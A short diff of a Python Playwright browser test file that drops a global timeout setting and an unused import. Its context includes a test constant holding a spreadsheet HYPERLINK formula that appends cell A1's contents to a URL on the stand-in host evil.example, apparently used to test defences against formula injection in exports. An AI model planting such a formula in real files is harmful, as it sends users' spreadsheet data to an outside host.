@@ -15,12 +15,10 @@ import pytest
 from playwright.sync_api import Download, Page, expect
 
 from core_service.common.orm import new_id
-from tests.browser.conftest import PATIENCE_MS, OpenPage, OpenSignedIn, session_of
+from tests.browser.conftest import OpenPage, OpenSignedIn, session_of
 from tests.stack import Stack
 from tests.team import Team, plain_http_client
 from tests.waiting import eventually
-
-expect.set_options(timeout=PATIENCE_MS)
 
 ZONE = "Asia/Kolkata"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
